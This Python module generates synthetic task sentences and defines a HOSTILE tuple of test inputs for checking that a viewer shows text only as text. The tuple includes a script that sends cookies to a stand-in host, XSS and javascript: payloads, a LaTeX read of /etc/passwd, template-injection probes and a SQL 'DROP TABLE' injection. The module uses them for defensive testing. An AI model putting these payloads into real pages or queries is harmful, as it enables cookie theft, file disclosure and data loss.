"""The texts of synthetic runs: plain generated sentences, and hostile ones for testing what shows them."""

from __future__ import annotations

import numpy as np

NAMES = ("sentiment", "roles", "dialogue", "tables", "reading")

_PEOPLE = ("Anna", "the baker", "a sailor", "the council", "Mr Low", "her brother", "the clerk", "a tall woman")
_THINGS = ("a bicycle", "the report", "two lemons", "an old map", "the garden gate", "a red kite", "the ledger", "a brass clock")
_PLACES = ("north", "centre", "south", "east", "west")
_MOODS = {
    "a warm and clever film": "positive",
    "a dull, slow evening": "negative",
    "sharp, funny and kind": "positive",
    "noise without a plot": "negative",
}


def sentence(task: str, rng: np.random.Generator) -> tuple[str, str, str]:
    """(context, question, answer) in the style of one of NAMES; 'roles-2' is in the style of 'roles'."""

    def pick(words: tuple[str, ...]) -> str:
        return words[int(rng.integers(len(words)))]

    who, what, where = pick(_PEOPLE), pick(_THINGS), pick(_PLACES)
    style = task.partition("-")[0]
    if style == "sentiment":
        mood = pick(tuple(_MOODS))
        return f"{who} called it {mood}", "is this review positive or negative?", _MOODS[mood]
    if style == "roles":
        return f"{who} carried {what} to the {where} side", "what did someone carry?", what
    if style == "dialogue":
        return f"i want a cheap place in the {where}", "what is the change in state?", f"price: cheap; area: {where}"
    if style == "tables":
        return (
            "the table has columns name, area, price",
            f"what is the price where area is {where}?",
            f"SELECT price FROM table WHERE area = '{where}'",
        )
    return f"{who} found {what} near the {where} road and sold it at noon.", "who sold it?", who if rng.random() < 0.7 else ""


HOSTILE = (
    "<script>document.title = 'owned'; fetch('https://example.invalid/' + document.cookie)</script>",
    "<img src=x onerror=\"alert(1)\"><b>bold</b><iframe src='https://example.invalid'></iframe>",
    "# Heading\n\n**bold** [link](javascript:alert(1)) ![image](https://example.invalid/x.png) `code` | a | b |\n|---|---|",
    r"$\frac{1}{0}$ \[ \input{/etc/passwd} \] $$\href{javascript:alert(1)}{click}$$ :red[text] :material/home:",
    "nul \x00 bell \x07 escape \x1b[31mred\x1b[0m backspace \x08\x08 return \r line\u2028paragraph\u2029 tab\t end \x7f\x85",
    "right-to-left \u202eevil\u202c isolate \u2067abc\u2069 zero\u200bwidth \ufeffmark combining a\u0301\u0302\u0303\u0304\u0305",
    '{{7*7}} {% raw %} ${7*7} %s %n <%= 1 %> \'; DROP TABLE runs; -- "quoted" =HYPERLINK("https://example.invalid")',
    "half a pair \ud800 and beyond \U0001f468\u200d\U0001f469\u200d\U0001f467 \ufffd \uffff",
    "x" * 102_400,
    "word " * 20_480,
    "",
)
"""Texts that must be shown as text and nothing else."""
